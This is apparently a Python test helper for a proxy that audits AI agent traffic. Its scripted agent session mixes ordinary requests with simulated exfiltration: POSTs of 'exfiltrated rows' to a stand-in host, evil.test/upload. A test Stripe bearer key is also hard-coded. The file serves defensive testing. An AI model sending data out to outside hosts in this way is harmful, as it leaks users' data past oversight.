"""Helpers shared by the audit tests (a module of its own: a conftest of the same name
in another test folder would shadow it)."""

from __future__ import annotations

from pathlib import Path

import requests

from guard.proxy.embedded import RunningGuard
from tests.sandboxes import token
from tests.upstream import Upstream

HERE = Path(__file__).resolve().parent
RULES = HERE / "audit-rules.yaml"


class EchoUpstream(Upstream):
    """The real world of the audit tests: answers ``{"real": "world"}``."""

    def __init__(self) -> None:
        super().__init__(body=b'{"real": "world"}')


def session(g: RunningGuard, sandbox: str | None = None) -> requests.Session:
    s = requests.Session()
    s.trust_env = False
    s.proxies = g.proxies
    s.verify = g.ca
    if sandbox:
        s.headers["X-Guard-Sandbox"] = token(sandbox)  # proves the sandbox (tests/sandboxes)
    return s


def agent_session(g: RunningGuard, upstream_port: int) -> None:
    """A short agent session: every kind of decision, two sandboxes."""
    a, b = session(g, "agent-a"), session(g, "agent-b")
    a.post("https://api.stripe.com/v1/customers", data={"email": "jenny@example.com"},
           headers={"Authorization": "Bearer sk_test_4eC39HqLyjWDarjtT1zdp7dc"})
    a.post("https://mail.test/send", json={"to": "boss@corp.test", "subject": "Q3 numbers",
                                           "text": "see attached"})
    a.post("https://evil.test/upload", data=b"exfiltrated rows")
    a.get(f"http://127.0.0.1:{upstream_port}/allowed/docs")
    b.get("https://unknown.example.org/")
    b.post("https://evil.test/upload", data=b"more rows")
    b.get("https://api.stripe.com/v1/customers/cus_missing",
          headers={"Authorization": "Bearer sk_test_4eC39HqLyjWDarjtT1zdp7dc"})
